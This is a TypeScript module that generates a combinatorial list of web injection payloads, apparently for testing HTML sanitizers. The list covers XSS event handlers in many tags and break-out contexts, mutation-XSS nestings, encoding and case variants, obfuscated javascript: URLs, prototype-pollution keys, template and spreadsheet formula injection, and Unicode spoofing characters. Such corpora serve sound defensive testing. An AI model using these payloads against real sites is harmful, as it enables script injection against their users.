/** What would run, were it read as markup, an address, a style or a script: handlers on elements, in contexts that break out, in spellings that hide it. */

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationend',
  'ontoggle',
  'onpageshow',
  'onbegin',
  'oncut',
]
const ELEMENTS = [
  ...[
    'img src=x',
    'svg',
    'body',
    'iframe',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'math',
    'object data=x',
  ],
  ...[
    'marquee',
    'select autofocus',
    'svg><animate attributeName=x dur=1s',
    'template',
    'style',
    'link rel=stylesheet href=x',
    'form',
    'table background=x',
  ],
]
const SCRIPT = 'alert(1)'
/** What stands around: the places of a page out of which text may break. */
const CONTEXTS: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</script>${markup}`,
  (markup) => `--></style></title></textarea>${markup}`,
  (markup) => `<svg><style>${markup}`,
  (markup) => `<noscript><p title="</noscript>${markup}">`,
  (markup) => `<math><mtext><table><mglyph><style><!--</style>${markup}`,
  (markup) => `<iframe srcdoc="${markup.replaceAll('"', '&quot;')}">`,
  (markup) => `<template><s>${markup}</s></template>`,
]
/** How it is written. */
const SPELLINGS: ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replaceAll(/[a-z](?=[a-z])/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll(/[<>"']/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (markup) => encodeURIComponent(markup),
]

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'data:text/html,<script>',
  'vbscript:',
  'javascript&colon;',
]
const ADDRESSES = SCHEMES.flatMap((scheme) => [
  `${scheme}${SCRIPT}`,
  `<a href="${scheme}${SCRIPT}">x</a>`,
  `<form action="${scheme}${SCRIPT}"><button>x`,
  `<meta http-equiv=refresh content="0;url=${scheme}${SCRIPT}">`,
  `<math><mi xlink:href="${scheme}${SCRIPT}">x`,
])

/** Names that objects have of their own. */
const INNATE = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'length',
]

const OTHERS = [
  ...[
    '<!--<script>',
    ']]><script>alert(1)</script>',
    '{{constructor.constructor("alert(1)")()}}',
    `\${${SCRIPT}}`,
    "';alert(1)//",
  ],
  ...[
    '<style>@import "http://x"</style>',
    '<base href="http://x/">',
    '<link rel=prefetch href="http://x">',
    '<img src="http://x">',
  ],
  ...[
    '\u202egnp.exe',
    '\u2066x\u2069',
    '\u0000<b>',
    '\ufeff<b>',
    '\ufffe',
    '#/row/x',
    '%',
    '%E0%A4%A',
    '=HYPERLINK("http://x")',
  ],
]

/** All of them, each once, in the same order every time. */
export const PAYLOADS: readonly string[] = Array.from(
  new Set([
    ...INNATE,
    ...ADDRESSES,
    ...OTHERS,
    ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=${SCRIPT}>`)).flatMap(
      (markup, i) =>
        CONTEXTS.flatMap((around) =>
          // Every second markup in every spelling, the others as they are.
          (i % 2 ? SPELLINGS : SPELLINGS.slice(0, 1)).map((spell) => spell(around(markup))),
        ),
    ),
  ]),
)
